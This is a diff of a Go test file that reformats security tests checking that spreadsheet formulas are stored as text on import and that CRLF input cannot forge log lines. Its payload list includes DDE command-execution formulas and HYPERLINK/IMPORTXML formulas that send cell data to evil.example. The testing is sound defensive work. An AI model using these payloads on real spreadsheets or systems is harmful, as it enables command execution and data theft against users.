@@ -19,14 +19,8 @@ import (
 // Cells that a spreadsheet reads as formulas, and texts that break log lines.
 
 var formulas = []string{
-	`=cmd|' /C calc'!A0`,
-	`+1+cmd|' /C calc'!A0`,
-	`-2+3+cmd|' /C calc'!A0`,
-	`@SUM(1+1)*cmd|' /C calc'!A0`,
-	`=HYPERLINK("https://evil.example?x="&A1,"Error")`,
-	`=IMPORTXML("https://evil.example","//a")`,
-	"|calc",
-	"%0A=1+1",
+	`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
+	`=HYPERLINK("https://evil.example?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, "|calc", "%0A=1+1",
 }
 
 // TestImport_FormulasStayText checks that an import stores formulas as text, and that the audit log is not exported as
@@ -49,9 +43,7 @@ func TestImport_FormulasStayText(t *testing.T) {
 		}
 		return nil
 	})
-	list := api.Get(t, harness.ListPath).
-		Wants(t, http.StatusOK).
-		WantsHeader(t, "Content-Type", "application/json").
+	list := api.Get(t, harness.ListPath).Wants(t, http.StatusOK).WantsHeader(t, "Content-Type", "application/json").
 		WantsHeader(t, "X-Content-Type-Options", "nosniff")
 	var page struct {
 		Data []struct{ Name, Summary string }
@@ -200,16 +192,14 @@ func TestLogs_LinesCannotBeForged(t *testing.T) {
 				escaped+"\r\nConnection: close\r\n\r\n",
 		)
 	}
-	p.API().
-		JSON(t, http.MethodPost, harness.TokenPath, map[string]any{
-			"client_id":     forged,
-			"client_secret": forged,
-			"code":          forged,
-			"redirect_uri":  forged,
-		}).
+	p.API().JSON(t, http.MethodPost, harness.TokenPath, map[string]any{
+		"client_id":     forged,
+		"client_secret": forged,
+		"code":          forged,
+		"redirect_uri":  forged,
+	}).
 		Wants(t, http.StatusBadRequest)
-	p.App().
-		Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).
+	p.App().Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).
 		Wants(t, http.StatusBadRequest)
 	names, err := filepath.Glob(filepath.Join(shared(t).LogDir(), "*.log"))
 	if err != nil || len(names) < 3 {
